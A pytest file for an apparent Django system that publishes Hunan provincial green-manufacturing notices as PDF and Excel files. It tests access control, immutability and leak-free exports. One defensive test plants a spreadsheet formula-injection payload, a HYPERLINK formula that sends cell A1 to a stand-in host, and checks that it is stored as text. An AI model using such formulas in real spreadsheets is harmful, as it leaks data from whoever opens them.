"""The public notice and the list of 牌匾: made by jobs of what was frozen and kept."""

from datetime import UTC, datetime, timedelta
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.db import DatabaseError, transaction
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.models import Organization
from applications.models import Notice
from applications.services import announcing, notices
from greenmfg import clock
from greenmfg.dates import date_text
from tests.provincial import ProvincialStory


@pytest.fixture
def story(in_hunan):
    return ProvincialStory(in_hunan)


def text_of(response) -> str:
    assert response.status_code == 200
    pages = PdfReader(BytesIO(response.getvalue())).pages
    return "".join("".join(page.extract_text() for page in pages).split())


def test_a_notice_is_printed_as_it_was_frozen_and_taken_along_by_anybody(story, client_for, do_jobs):
    notice, anybody = story.noticed, client_for(None)
    path = f"/public/hunan/notices/{notice.pk}/"
    assert anybody.get(f"{path}file/pdf/").status_code == 409
    assert "下载公示（PDF）" not in anybody.get(path).content.decode()
    do_jobs()
    notice.refresh_from_db()
    assert "下载公示（PDF）" in anybody.get(path).content.decode()
    text = text_of(anybody.get(f"{path}file/pdf/"))
    unit = story.selected.organization
    for part in (
        "拟确认省级绿色制造单位公示",
        "湘经信节能〔2017〕15号",
        f"公示期：{date_text(notice.opens_on)}至{date_text(notice.closes_on)}，自发布次日起5个工作日",
        unit.name,
        unit.uscc,
        "以真实姓名提出",
        f"{date_text(notice.closes_on)}24:00前",
        "受理部门：节能与综合利用处联系电话：0731-88955463",
        notice.sha256,
        "〔待确认〕",
        "湖南省工业和信息化厅",
    ):
        assert part in text, part
    sheet = load_workbook(BytesIO(anybody.get(f"{path}file/xlsx/").content)).active
    assert [unit.name, unit.uscc] in [[cell.value for cell in row[1:3]] for row in sheet.iter_rows()]
    assert anybody.get(f"{path}file/docx/").status_code == 404


def test_attack_024_the_files_of_a_notice_hold_what_was_published_and_no_more(story, client_for, do_jobs):
    notice, anybody, contact = story.noticed, client_for(None), story.world.owner.user
    do_jobs()
    path = f"/public/hunan/notices/{notice.pk}/file/"
    with ZipFile(BytesIO(anybody.get(f"{path}xlsx/").content)) as book:
        inside = b"".join(book.read(name) for name in book.namelist()).decode()
    pdf = anybody.get(f"{path}pdf/").getvalue()
    properties = str(PdfReader(BytesIO(pdf)).metadata)
    number, receipt = story.selected.number, story.submitted.receipt
    for secret in (
        contact.name,
        contact.phone,
        contact.email,
        "陈立",
        number,
        receipt,
        story.submitted.sha256,
    ):
        for told in (inside, text_of(anybody.get(f"{path}pdf/")), properties):
            assert secret not in told, secret
    for elsewhere in ("guangdong", "nowhere"):
        for form in ("pdf", "xlsx"):
            address = f"/public/{elsewhere}/notices/{notice.pk}/file/{form}/"
            assert anybody.get(address).status_code == 404


def test_attack_078_a_unit_called_by_a_formula_is_text_in_the_files_of_a_notice(story, client_for):
    formula = '=HYPERLINK("http://x/?"&A1)'
    Organization.objects.filter(pk=story.selected.organization_id).update(name=formula)
    path = f"/public/hunan/notices/{story.noticed.pk}/file/xlsx/"
    sheet = load_workbook(BytesIO(client_for(None).get(path).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert formula in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells if not isinstance(cell.value, int)} == {"s"}


def test_a_draft_is_nobodys_to_take_along(story, client_for):
    path = f"/public/hunan/notices/{story.drafted.pk}/file/"
    assert [client_for(None).get(f"{path}{form}/").status_code for form in ("pdf", "xlsx")] == [404, 404]


def test_the_end_and_the_contact_of_a_notice_cannot_be_changed(story):
    pk = story.noticed.pk
    for change in ({"closes_on": story.noticed.opens_on}, {"phone": "1"}, {"department": ""}):
        with pytest.raises(DatabaseError), transaction.atomic():
            Notice.objects.filter(pk=pk).update(**change)


def test_the_plaques_are_a_list_for_their_maker_once_announced(story, client_for, do_jobs):
    notice, clerk = story.noticed, client_for(story.world.province_clerk)
    approver = story.actor("province_approver")
    assert clerk.get(f"/notices/{notice.pk}/plaques/").status_code == 409
    notice.refresh_from_db()
    after = datetime.combine(notice.closes_on + timedelta(days=1), datetime.min.time(), UTC)
    with clock.override(after):
        notices.close_notice(actor=approver, notice=notice, seen_version=notice.version)
        announcing.announce(
            actor=approver, notice=notice, seen_version=notice.version,
            document_number="湘工信节能〔2026〕12号", listed_on=after.date(),
        )  # fmt: skip
    page = clerk.get(f"/notices/{notice.pk}/").content.decode()
    assert "湖南省绿色工厂" in page
    sheet = load_workbook(BytesIO(clerk.get(f"/notices/{notice.pk}/plaques/").content)).active
    row = [cell.value for cell in sheet[5]]
    assert row[:5] == [1, "湘江新材料有限公司", "湖南省绿色工厂", "2026年度", "湖南省工业和信息化厅"]
    assert "待确认" in sheet["A6"].value
    do_jobs()
    printout = notice.printouts.get(kind="plaques")
    text = text_of(clerk.get(f"/printouts/{printout.pk}/"))
    assert "湘工信节能〔2026〕12号" in text
    assert "湖南省绿色工厂" in text
    assert client_for(story.world.city_clerk).get(f"/printouts/{printout.pk}/").status_code == 404
